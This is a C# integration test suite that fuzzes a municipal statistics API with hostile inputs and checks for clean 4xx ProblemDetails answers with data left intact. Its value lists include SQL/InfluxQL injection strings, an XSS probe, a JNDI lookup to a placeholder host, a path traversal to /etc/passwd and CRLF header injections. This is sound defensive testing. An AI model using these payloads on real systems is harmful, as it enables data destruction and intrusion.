using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using GrowthMonitor.Influx;
using GrowthMonitor.IntegrationTests.Infrastructure;
using GrowthMonitor.IntegrationTests.Targets;
using Xunit.Abstractions;

namespace GrowthMonitor.IntegrationTests.Security;

/// <summary>
/// Every parameter of every operation the API describes (<c>/openapi/v1.json</c>, so a new endpoint is covered the day it
/// appears) fed hostile values; odd <c>Accept</c> headers; wrong methods; bad bodies. Each answer must be a 4xx
/// ProblemDetails (never a 5xx, never an echo of the input), and the stored data must be as it was. Served on Kestrel,
/// as in production, so its limits take part. Each test lists every violation it finds, not only the first.
/// </summary>
[Collection(ServersCollection.Name)]
public sealed class HostileInputTests(ServersFixture servers, ITestOutputHelper output)
{
    /// <summary>Hostile values as they go into the URL, percent-encoded, with a name to report them by.</summary>
    public static readonly IReadOnlyList<(string Name, string Encoded)> HostileValues =
    [
        .. new[]
        {
            "' OR 1=1 --", "\"; DROP MEASUREMENT jobs; --", "615\" OR area =~ /.*/", "jobs\" WHERE 1=1; DELETE FROM \"jobs", "/.*/", "(a+)+$", "[", "$from",
            "line1\nline2", "\r\nSet-Cookie: x=1", "\t", " ", "\u202Ejobs", "😀", "<script>alert(1)</script>", "${jndi:ldap://example.invalid/a}",
            "../../etc/passwd", "%", "%%", "2020K5", "2020M13", "2020H3", "2024K0", "2020Q9", "20x4", "9999", "1677", "2263", "0000", "-2024",
            "2024-13-45", "2024-06-01T25:00:00+99:00", "00000", "-1", "2147483648", "99999999999999999999", "1e309", "NaN", "Infinity", "true",
            "null", "{}", "[]", new string('9', 6_000), new string('a', 102_400),
        }.Select(v => (Name: Printable(v), Encoded: Uri.EscapeDataString(v))),
        // Percent-encoded bytes that are not UTF-8: a lone continuation byte, an overlong '/', a surrogate half, a NUL.
        ("invalid UTF-8 %C3%28", "%C3%28"), ("invalid UTF-8 %FF%FE", "%FF%FE"), ("overlong %C0%AF", "%C0%AF"), ("surrogate %ED%A0%80", "%ED%A0%80"), ("NUL %00", "%00"),
    ];

    /// <summary>
    /// Well-formed but extreme: moments far from the data and from InfluxDB's range. An answer (asOf=0001-01-01 is a
    /// fair question whose answer is "nothing yet") or a 4xx ProblemDetails; never a 5xx.
    /// </summary>
    public static readonly IReadOnlyList<string> ExtremeValues = ["9999-12-31T23:59:59Z", "0001-01-01", "1677-01-01T00:00:00Z", "2262-04-12T00:00:00Z"];

    [Fact]
    public async Task EveryParameter_HostileValues_4xxProblemAndDataIntact()
    {
        await using var harness = await HorsensScenario.StartAsync(servers, onKestrel: true);
        using var client = harness.OperatorClient();
        var before = await SnapshotAsync(harness.Influx);
        var operations = await OperationsAsync(client);
        List<string> violations = [];
        var requests = 0;

        foreach (var operation in operations)
        {
            foreach (var parameter in operation.Parameters)
            {
                var values = HostileValues.Select(v => (v.Name, v.Encoded, Hostile: true)).Concat(ExtremeValues.Select(v => (Name: v, Encoded: Uri.EscapeDataString(v), Hostile: false)));
                foreach (var (name, encoded, hostile) in values)
                {
                    using var request = operation.Request(parameter.Name, encoded);
                    requests++;
                    await ExpectProblemAsync(client, request, $"{operation} {parameter.Name}={name}", allowAnswer: !hostile, violations);
                }
            }
        }

        output.WriteLine($"{requests} requests to {operations.Count} operations.");
        Assert.True(operations.Count >= 12, $"Only {operations.Count} operations were found in the OpenAPI document.");
        Assert.True(violations.Count == 0, $"{violations.Count} of {requests} hostile requests were not answered with a 4xx ProblemDetails:\n{string.Join("\n", violations)}");
        Assert.Equal(before, await SnapshotAsync(harness.Influx));
    }

    [Fact]
    public async Task Series_PeriodInfluxCannotStore_400InvalidPeriodNot5xx()
    {
        await using var harness = await HorsensScenario.StartAsync(servers);
        using var client = harness.Factory.CreateClient();
        List<string> violations = [];

        foreach (var query in new[] { "from=9999", "from=1677", "to=2263", "from=2024&to=9999M12" })
        {
            using var response = await client.GetAsync("/api/indicators/jobs/series?" + query);
            var title = response.StatusCode == HttpStatusCode.BadRequest
                ? JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("title").GetString()
                : null;
            if (title != "Invalid period")
            {
                violations.Add($"{query}: {(int)response.StatusCode} {title}");
            }
        }

        using var lastWholeYear = await client.GetAsync("/api/indicators/jobs/series?from=2261");
        Assert.True(violations.Count == 0, string.Join("\n", violations));
        Assert.Equal(HttpStatusCode.OK, lastWholeYear.StatusCode);
    }

    [Theory]
    [InlineData("9999-12-31T23:59:59Z")] // was a 500: judging every year up to 9999 reached past DateOnly's calendar
    [InlineData("2025-11-02T00:00:00Z")] // the day after the scenario's today
    public async Task Report_AsOfInTheFuture_400InvalidVintage(string asOf)
    {
        await using var harness = await HorsensScenario.StartAsync(servers);
        using var client = harness.Factory.CreateClient();

        using var response = await client.GetAsync("/api/alliances/horsens/reports/2024?asOf=" + Uri.EscapeDataString(asOf));
        using var yesterday = await client.GetAsync("/api/alliances/horsens/reports/2024?asOf=2025-10-31T00:00:00Z");

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("future", await response.Content.ReadAsStringAsync());
        Assert.Equal(HttpStatusCode.OK, yesterday.StatusCode);
    }

    public static readonly IReadOnlyList<string> OddAcceptHeaders =
    [
        "*/*", "text/html", "application/xml", "text/csv;q=0", ";;;", "a/b/c", "application/json; q=abc", "text/*, application/*;q=0.1",
        "image/png", "application/problem+json", "text/csv;q=0.9, application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "application/json;charset=utf-16", string.Join(", ", Enumerable.Range(0, 1_000).Select(i => $"type{i}/subtype{i};q=0.{i % 10}")),
    ];

    [Fact]
    public async Task EveryReadOperation_OddAccept_AnswersOrProblemNever5xx()
    {
        await using var harness = await HorsensScenario.StartAsync(servers, onKestrel: true);
        using var client = harness.OperatorClient();
        var before = await SnapshotAsync(harness.Influx);
        var reads = (await OperationsAsync(client)).Where(o => o.Method == HttpMethod.Get).ToList();
        List<string> violations = [];

        foreach (var accept in OddAcceptHeaders)
        {
            foreach (var operation in reads)
            {
                using var request = operation.Request();
                request.Headers.TryAddWithoutValidation("Accept", accept);
                using var response = await client.SendAsync(request);
                // A browser's Accept (text/html named first) gets the error as the Danish page; every other client its ProblemDetails.
                if (!response.IsSuccessStatusCode && !await (accept == "text/html" ? IsErrorPageAsync(response) : IsProblemAsync(response, expectBody: true)))
                {
                    violations.Add($"Accept {accept[..Math.Min(accept.Length, 60)]}, {operation}: {(int)response.StatusCode} {response.Content.Headers.ContentType}");
                }
            }
        }

        Assert.True(violations.Count == 0, string.Join("\n", violations));
        Assert.Equal(before, await SnapshotAsync(harness.Influx));
    }

    // The stored assessments (targets, reports) are in PostgreSQL; the figures are what needs InfluxDB.
    [Theory]
    [InlineData("/api/indicators/jobs/series", "text/csv")]
    [InlineData("/api/indicators/jobs/series", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")]
    public async Task InfluxDown_AcceptWithoutJson_503ProblemNotAnEmptyAnswer(string url, string accept)
    {
        var closedPort = ExternalProcess.FreeLoopbackPort();
        await using var harness = ServiceHarness.Create(servers, HorsensScenario.Catalog(), settings: new Dictionary<string, string?> { ["Influx:Url"] = $"http://127.0.0.1:{closedPort}" });
        using var client = harness.Factory.CreateClient();
        using var request = new HttpRequestMessage(HttpMethod.Get, url);
        request.Headers.Accept.ParseAdd(accept);

        using var response = await client.SendAsync(request);

        Assert.Equal(HttpStatusCode.ServiceUnavailable, response.StatusCode);
        Assert.True(await IsProblemAsync(response, expectBody: true), $"{response.Content.Headers.ContentType}: {await response.Content.ReadAsStringAsync()}");
        Assert.Contains("InfluxDB", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task EveryPath_WrongMethods_405ProblemNamingTheAllowedOnes()
    {
        await using var harness = await HorsensScenario.StartAsync(servers, onKestrel: true);
        using var client = harness.OperatorClient();
        var before = await SnapshotAsync(harness.Influx);
        List<string> violations = [];
        HttpMethod[] methods = [HttpMethod.Get, HttpMethod.Post, HttpMethod.Put, HttpMethod.Delete, HttpMethod.Patch, HttpMethod.Options, HttpMethod.Trace, new("PROPFIND")];

        var operations = await OperationsAsync(client);
        foreach (var path in operations.GroupBy(o => o.Path))
        {
            var allowed = path.Select(o => o.Method).ToList();
            // GET /api/targets/evaluate is a fair request for the target "evaluate".
            foreach (var method in methods.Except(allowed).Where(m => !operations.Any(o => o.Method == m && o.Matches(path.First().Request().RequestUri!.OriginalString))))
            {
                using var request = path.First().Request(method: method);
                using var response = await client.SendAsync(request);
                var allow = response.Content.Headers.Allow.Concat(response.Headers.TryGetValues("Allow", out var values) ? values : []).ToList();
                if (response.StatusCode != HttpStatusCode.MethodNotAllowed || !await IsProblemAsync(response, expectBody: true)
                    || !allowed.All(a => allow.Any(v => v.Contains(a.Method, StringComparison.OrdinalIgnoreCase))))
                {
                    violations.Add($"{method} {path.Key}: {(int)response.StatusCode} {response.Content.Headers.ContentType}, Allow: {string.Join(",", allow)}");
                }
            }
        }

        Assert.True(violations.Count == 0, string.Join("\n", violations));
        Assert.Equal(before, await SnapshotAsync(harness.Influx));
    }

    public static readonly IReadOnlyList<(string What, string ContentType, string Body, HttpStatusCode Expected)> HostileBodies =
    [
        ("over the size limit", "application/json", $$"""{"route": "{{new string('x', 1_100_000)}}"}""", HttpStatusCode.RequestEntityTooLarge),
        ("not JSON", "application/json", "{\"route\": ", HttpStatusCode.BadRequest),
        ("nested 10,000 deep", "application/json", new string('[', 10_000) + new string(']', 10_000), HttpStatusCode.BadRequest),
        ("a number for the route", "application/json", """{"route": 123}""", HttpStatusCode.BadRequest),
        ("null", "application/json", "null", HttpStatusCode.BadRequest),
        ("empty", "application/json", "", HttpStatusCode.BadRequest),
        ("no route", "application/json", "{}", HttpStatusCode.BadRequest),
        ("a 100 KB route", "application/json", $$"""{"route": "{{new string('r', 102_400)}}"}""", HttpStatusCode.NotFound),
        ("control characters in the route", "application/json", """{"route": "webhook:\u0000\r\nX-Injected: 1"}""", HttpStatusCode.NotFound),
        ("InfluxQL in the route", "application/json", """{"route": "x' OR 1=1; DROP MEASUREMENT jobs"}""", HttpStatusCode.NotFound),
        ("plain text", "text/plain", "route=x", HttpStatusCode.UnsupportedMediaType),
        ("form", "application/x-www-form-urlencoded", "route=x", HttpStatusCode.UnsupportedMediaType),
    ];

    [Fact]
    public async Task AlertTest_HostileBody_4xxProblem()
    {
        await using var harness = await HorsensScenario.StartAsync(servers, onKestrel: true);
        using var client = harness.OperatorClient();
        List<string> violations = [];

        foreach (var (what, contentType, body, expected) in HostileBodies)
        {
            using var response = await client.PostAsync("/api/alerts/test", new StringContent(body, new MediaTypeHeaderValue(contentType)));
            if (expected != response.StatusCode || !await IsProblemAsync(response, expectBody: true))
            {
                violations.Add($"{what}: {(int)response.StatusCode} {response.Content.Headers.ContentType}, expected {(int)expected} and a ProblemDetails");
            }
        }

        Assert.True(violations.Count == 0, string.Join("\n", violations));
    }

    [Fact]
    public async Task AlertTest_BodyNotUtf8_400Problem()
    {
        await using var harness = await HorsensScenario.StartAsync(servers, onKestrel: true);
        using var client = harness.OperatorClient();
        var body = new ByteArrayContent([.. "{\"route\": \""u8, 0xC3, 0x28, 0xFF, .. "\"}"u8]);
        body.Headers.ContentType = new MediaTypeHeaderValue("application/json");

        using var response = await client.PostAsync("/api/alerts/test", body);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.True(await IsProblemAsync(response, expectBody: true));
    }

    private static async Task ExpectProblemAsync(HttpClient client, HttpRequestMessage request, string what, bool allowAnswer, List<string> violations)
    {
        try
        {
            using var response = await client.SendAsync(request);
            var status = (int)response.StatusCode;
            // Kestrel refuses a request line over its limit, or a NUL in the path, itself, before the service sees it:
            // an empty answer, and the connection closed.
            var refusedByKestrel = response.Headers.ConnectionClose == true && response.Content.Headers.ContentLength == 0;
            if (allowAnswer && response.IsSuccessStatusCode)
            {
                return;
            }

            if (status is < 400 or > 499 || !await IsProblemAsync(response, expectBody: !refusedByKestrel))
            {
                violations.Add($"{what}: {status} {response.Content.Headers.ContentType} {Printable(await response.Content.ReadAsStringAsync())}");
            }
        }
        catch (HttpRequestException e)
        {
            violations.Add($"{what}: no answer ({e.Message})");
        }
    }

    /// <summary>A ProblemDetails whose status is the response's and whose detail echoes no long input.</summary>
    /// <summary>The Danish error page a browser gets: HTML naming the status code, with the way back to the front page.</summary>
    private static async Task<bool> IsErrorPageAsync(HttpResponseMessage response)
    {
        var body = await response.Content.ReadAsStringAsync();
        return response.Content.Headers.ContentType?.MediaType == "text/html"
            && body.Contains("<html lang=\"da\">", StringComparison.Ordinal)
            && body.Contains("<a href=\"/\">", StringComparison.Ordinal)
            && body.Contains($"fejlkode {(int)response.StatusCode}.", StringComparison.Ordinal);
    }

    private static async Task<bool> IsProblemAsync(HttpResponseMessage response, bool expectBody)
    {
        var body = await response.Content.ReadAsStringAsync();
        if (!expectBody && body.Length == 0)
        {
            return true;
        }

        if (response.Content.Headers.ContentType?.MediaType != "application/problem+json")
        {
            return false;
        }

        using var problem = JsonDocument.Parse(body);
        return problem.RootElement.GetProperty("status").GetInt32() == (int)response.StatusCode
            && problem.RootElement.GetProperty("title").GetString() is { Length: > 0 }
            && (problem.RootElement.TryGetProperty("detail", out var detail) ? detail.GetString()!.Length : 0) < 400;
    }

    /// <summary>Every measurement with the number of points of each field: a request that wrote or deleted anything shows.</summary>
    private static async Task<string> SnapshotAsync(InfluxClient influx)
    {
        var counts = await influx.QueryAsync(new InfluxQuery("SELECT count(*) FROM /.*/"));
        return string.Join("; ", counts.OrderBy(s => s.Name, StringComparer.Ordinal)
            .Select(s => s.Name + ": " + string.Join(", ", s.Rows.SelectMany(r => s.Columns.Where(c => c != "time").Select(c => $"{c}={r.GetInt64(c)}")))));
    }

    private static async Task<IReadOnlyList<Operation>> OperationsAsync(HttpClient client)
    {
        using var document = JsonDocument.Parse(await client.GetStringAsync("/openapi/v1.json"));
        return [.. document.RootElement.GetProperty("paths").EnumerateObject().SelectMany(path => path.Value.EnumerateObject().Select(operation => new Operation(
            path.Name,
            new HttpMethod(operation.Name.ToUpperInvariant()),
            [.. operation.Value.TryGetProperty("parameters", out var parameters)
                ? parameters.EnumerateArray().Select(p => new Parameter(p.GetProperty("name").GetString()!, p.GetProperty("in").GetString()!))
                : []],
            operation.Value.TryGetProperty("requestBody", out _))))];
    }

    private static string Printable(string text)
    {
        var printable = new string([.. text.Take(60).Select(c => char.IsControl(c) ? '·' : c)]);
        return text.Length > 60 ? $"{printable}… ({text.Length} characters)" : printable;
    }

    private sealed record Parameter(string Name, string In);

    /// <summary>One operation of the OpenAPI document, asked with valid values except where a test says otherwise.</summary>
    private sealed record Operation(string Path, HttpMethod Method, IReadOnlyList<Parameter> Parameters, bool HasBody)
    {
        /// <summary>Valid path values: the scenario's indicator, alliance and target, and a year it has figures for.</summary>
        private string ValidValue(string parameter) => (parameter, Path.Split('/')[2]) switch
        {
            ("year", _) => "2024",
            (_, "indicators") => "jobs",
            (_, "alliances") => "horsens",
            (_, "targets") => "horsens-jobs",
            _ => throw new InvalidOperationException($"No valid value for {parameter} of {Path}: add one."),
        };

        public HttpRequestMessage Request(string? hostileParameter = null, string? hostileValue = null, HttpMethod? method = null)
        {
            var path = Parameters.Where(p => p.In == "path")
                .Aggregate(Path, (url, p) => url.Replace($"{{{p.Name}}}", p.Name == hostileParameter ? hostileValue : ValidValue(p.Name), StringComparison.Ordinal));
            var query = Parameters.Any(p => p.In == "query" && p.Name == hostileParameter) ? $"?{hostileParameter}={hostileValue}" : "";
            var request = new HttpRequestMessage(method ?? Method, path + query);
            if (HasBody && (method ?? Method) != HttpMethod.Get)
            {
                // A valid body naming no route, so that only the hostile parameter is wrong.
                request.Content = new StringContent("""{"route": "webhook:nope"}""", Encoding.UTF8, "application/json");
            }

            return request;
        }

        /// <summary>Whether a concrete path is one this operation's template answers.</summary>
        public bool Matches(string path)
        {
            var template = Path.Split('/');
            var segments = path.Split('?')[0].Split('/');
            return template.Length == segments.Length && template.Zip(segments).All(t => t.First.StartsWith('{') || t.First == t.Second);
        }

        public override string ToString() => $"{Method} {Path}";
    }
}
